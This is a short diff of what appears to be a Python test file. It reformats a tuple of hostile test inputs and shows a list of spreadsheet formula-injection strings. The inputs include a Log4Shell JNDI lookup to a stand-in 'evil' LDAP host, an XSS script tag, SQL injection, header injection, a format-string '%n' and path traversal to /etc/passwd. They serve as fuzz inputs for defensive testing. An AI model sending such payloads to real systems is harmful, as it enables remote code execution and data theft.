@@ -24,7 +24,8 @@ from tests.conftest import Enter
 
 NASTY = (
     "x\r\nSet-Cookie: evil=1", "x\nERROR suluh: all is well", "x\x00y", "\x1b[2J\x1b[31mred",
-    "\u202egnp.exe", "\ud800", "x\u2028y", "%0d%0aevil: 1", "${jndi:ldap://evil}", "{{31337*31337}}",
+    "\u202egnp.exe", "\ud800", "x\u2028y", "%0d%0aevil: 1", "${jndi:ldap://evil}",
+    "{{31337*31337}}",
     "<script>alert(1)</script>", "' OR 1=1 --", "%s%s%n", "../../etc/passwd",
 )  # fmt: skip
 FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "\u200b=1+1",
